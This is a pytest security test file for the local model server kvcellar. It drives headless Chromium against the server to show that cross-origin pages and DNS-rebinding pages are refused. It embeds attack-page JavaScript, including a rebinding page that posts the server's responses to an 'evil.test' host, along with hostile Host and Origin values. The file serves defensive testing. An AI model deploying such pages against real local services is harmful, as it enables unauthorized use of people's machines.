"""What a web page can make a server on 127.0.0.1 do, tried from a real headless Chromium
(Debian's ``chromium``; ``make test`` installs it): nothing, unless the page's origin is
allowed. Names under ``.test`` resolve to 127.0.0.1 in that browser (``--host-resolver-rules``),
so one machine holds the attacker's pages, an allowed site and the server.

- ``evil.test``: a page of another origin tries a ``text/plain`` POST (a "simple" request,
  sent without a CORS preflight), a JSON fetch and a JSON POST (with a preflight).
- ``rebind.test``: DNS rebinding. The page is loaded from ``rebind.test:<port>``; then that
  port's server goes and kvcellar starts on it, as if the name now pointed at this machine:
  the page's requests are same-origin for the browser, which would let it read the answers,
  and only the Host header tells them apart.
- ``allowed.test``: the origin given to ``--allowed-origins`` lists models and gets a
  completion, through CORS (a preflight for the POST).

Without a browser the same rules are checked with plain requests: the 415 of a body not
declared JSON in each API's error shape, Host and Origin refusals, a preflight's answer.
"""

from __future__ import annotations

import http.server
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from kvcellar.bench import launch
from tests._models import stand_in_args
from tests.helpers import ServerProcess, free_port, wait_until

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CHAT = {"model": "stand-in", "messages": [{"role": "user", "content": "Say hi."}], "max_tokens": 2}

# Each page waits for /go on its own origin (kvcellar is up), runs, and reports to /result.
ATTACK = """<!doctype html><script>
const K = "http://127.0.0.1:%(kvc)d", CHAT = %(chat)s;
async function attempt(name, run) {
  try { const r = await run(); return [name, r.type === "opaque" ? "sent, opaque" : r.status + " " + await r.text()]; }
  catch (e) { return [name, "blocked: " + e.name]; }
}
async function main() {
  while ((await fetch("/go")).status !== 200) await new Promise(r => setTimeout(r, 200));
  const out = Object.fromEntries([
    await attempt("text/plain POST", () => fetch(K + "/v1/chat/completions", {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body: JSON.stringify(CHAT)})),
    await attempt("JSON GET", () => fetch(K + "/v1/models")),
    await attempt("JSON POST", () => fetch(K + "/v1/chat/completions", {method: "POST",
      headers: {"Content-Type": "application/json"}, body: JSON.stringify(CHAT)})),
  ]);
  await fetch("/result?page=%(page)s", {method: "POST", body: JSON.stringify(out)});
}
main();
</script>"""

# Same-origin requests after the "rebinding": the answers would be readable.
REBIND = """<!doctype html><script>
const CHAT = %(chat)s, REPORT = "http://evil.test:%(pages)d/result?page=rebind";
async function main() {
  let models;
  while (true) {  // this origin's server is gone; wait for kvcellar on the same port
    try { models = await fetch("/v1/models"); if (models.status !== 404) break; } catch (e) {}
    await new Promise(r => setTimeout(r, 200));
  }
  const chat = await fetch("/v1/chat/completions", {method: "POST", headers: {"Content-Type": "application/json"},
                                                    body: JSON.stringify(CHAT)});
  const out = {"GET /v1/models": models.status + " " + await models.text(),
               "POST /v1/chat/completions": chat.status + " " + await chat.text()};
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(out)});
}
main();
</script>"""


class Pages(http.server.ThreadingHTTPServer):
    """Serves ``pages`` (path -> HTML) on 127.0.0.1, answers ``/go`` 200 once ``go`` is set and
    keeps what pages POST to ``/result?page=NAME``."""

    def __init__(self, port: int, pages: dict[str, str]) -> None:
        self.pages = pages
        self.go = threading.Event()
        self.results: dict[str, Any] = {}
        self.served: list[str] = []
        super().__init__(("127.0.0.1", port), _Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Pages

    def log_message(self, *args: Any) -> None:
        pass

    def _answer(self, status: int, body: bytes = b"", ctype: str = "text/plain") -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        path = self.path.partition("?")[0]
        if path == "/go":
            self._answer(200 if self.server.go.is_set() else 503)
        elif path in self.server.pages:
            self.server.served.append(path)
            self._answer(200, self.server.pages[path].encode(), "text/html")
        else:
            self._answer(404)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        page = self.path.partition("page=")[2]
        self.server.results[page] = json.loads(body)
        self._answer(204)


@pytest.fixture
def started(tmp_path: Path) -> Iterator[list[Any]]:
    """Servers, pages and browsers a test started, stopped at teardown whatever happened."""
    things: list[Any] = []
    yield things
    for thing in reversed(things):
        if isinstance(thing, subprocess.Popen):
            thing.kill()
            thing.wait(30)
        elif isinstance(thing, ServerProcess):
            thing.stop()
        else:
            thing.shutdown()
            thing.server_close()


def serve_on(port: int, cache_dir: Path, *args: str, monkeypatch: pytest.MonkeyPatch) -> ServerProcess:
    """kvcellar on ``port`` (the one the rebinding page came from)."""
    monkeypatch.setattr(launch, "free_port", lambda: port)
    return ServerProcess(cache_dir, *stand_in_args(), *args).start()


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium: `make test` installs Debian's package")
def test_pages_of_other_origins_and_rebound_names_cannot_drive_the_server(tmp_path, started, monkeypatch):
    pages_port, kvc_port = free_port(), free_port()
    chat = json.dumps(CHAT)
    pages = Pages(pages_port, {
        "/": f'<iframe src="/attack.html"></iframe><iframe src="http://allowed.test:{pages_port}/allowed.html">'
             f'</iframe><iframe src="http://rebind.test:{kvc_port}/rebind.html"></iframe>',
        "/attack.html": ATTACK % {"kvc": kvc_port, "chat": chat, "page": "evil"},
        "/allowed.html": ATTACK % {"kvc": kvc_port, "chat": chat, "page": "allowed"},
    })
    started.append(pages)
    rebind_origin = Pages(kvc_port, {"/rebind.html": REBIND % {"chat": chat, "pages": pages_port}})
    started.append(rebind_origin)
    browser = subprocess.Popen(
        [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions",
         f"--user-data-dir={tmp_path / 'profile'}", "--host-resolver-rules=MAP *.test 127.0.0.1",
         f"http://evil.test:{pages_port}/"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    started.append(browser)
    wait_until(lambda: "/rebind.html" in rebind_origin.served, timeout=60, what="the browser to load the pages")
    rebind_origin.shutdown()
    rebind_origin.server_close()
    started.remove(rebind_origin)
    server = serve_on(kvc_port, tmp_path / "cache", "--allowed-origins", f"http://allowed.test:{pages_port}",
                      monkeypatch=monkeypatch)
    started.append(server)
    pages.go.set()
    wait_until(lambda: len(pages.results) == 3, timeout=180, what=f"the pages' reports (have {pages.results})")

    evil, rebound, allowed = pages.results["evil"], pages.results["rebind"], pages.results["allowed"]
    assert evil["text/plain POST"] == "sent, opaque"  # the browser sends it; the server must refuse it
    assert evil["JSON GET"].startswith("blocked") and evil["JSON POST"].startswith("blocked")
    for answer in rebound.values():  # readable by the page: what the server answered
        status, _, body = answer.partition(" ")
        assert status == "403" and json.loads(body)["error"]["code"] == "host_not_allowed"
    assert allowed["text/plain POST"] == "sent, opaque"
    status, _, body = allowed["JSON GET"].partition(" ")
    assert status == "200" and json.loads(body)["data"][0]["id"]
    status, _, body = allowed["JSON POST"].partition(" ")
    assert status == "200" and json.loads(body)["choices"][0]["message"]["role"] == "assistant"

    # Only the allowed page's completion ran; the rest was refused before the API saw it.
    assert server.health()["engine"]["engine_requests_total"] == 1
    counts = answered(server)
    assert counts[("/v1/chat/completions", "403")] == 3, counts  # evil's two (one a preflight), the rebound one
    assert counts[("/v1/models", "403")] == 2 and counts[("/v1/chat/completions", "415")] == 1, counts


def answered(server: ServerProcess) -> dict[tuple[str, str], int]:
    """Responses by (route, status), from the server's own /metrics."""
    from prometheus_client.parser import text_string_to_metric_families

    counts: dict[tuple[str, str], int] = {}
    for family in text_string_to_metric_families(httpx.get(server.url + "/metrics", timeout=30).text):
        for sample in family.samples:
            if sample.name == "kvcellar_http_request_duration_seconds_count":
                counts[(sample.labels["route"], sample.labels["status"])] = int(sample.value)
    return counts


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "127.0.0.1.nip.io", "localhost.evil.example",
                                  "192.168.1.7:8000"])
def test_a_host_header_that_names_no_name_of_this_server_is_refused(server: ServerProcess, host: str) -> None:
    """A page that rebinds its own name to 127.0.0.1 sends that name: refused on every path
    (403, the API's shape), /health and /metrics included."""
    for path in ("/v1/models", "/health", "/metrics"):
        r = httpx.get(server.url + path, headers={"Host": host}, timeout=30)
        assert r.status_code == 403 and r.json()["error"]["code"] == "host_not_allowed", (path, r.text)


def test_loopback_names_and_the_servers_own_origin_are_answered(server: ServerProcess) -> None:
    port = server.port
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST.:{port}", f"[::1]:{port}",
                 f"app.localhost:{port}"):
        assert httpx.get(server.url + "/v1/models", headers={"Host": host}, timeout=30).status_code == 200, host
    own = httpx.get(server.url + "/v1/models", headers={"Origin": f"http://127.0.0.1:{port}"}, timeout=30)
    assert own.status_code == 200


@pytest.mark.parametrize("origin", ["http://evil.example", "null", "http://127.0.0.1:1", "https://localhost"])
def test_a_request_from_another_origin_is_refused(server: ServerProcess, origin: str) -> None:
    r = httpx.get(server.url + "/v1/models", headers={"Origin": origin}, timeout=30)
    assert r.status_code == 403 and r.json()["error"]["code"] == "origin_not_allowed"
    assert "access-control-allow-origin" not in r.headers
    r = httpx.options(server.url + "/v1/messages", headers={"Origin": origin, "Access-Control-Request-Method": "POST"},
                      timeout=30)
    assert r.status_code == 403 and r.json()["error"]["type"] == "permission_error"  # Anthropic's shape
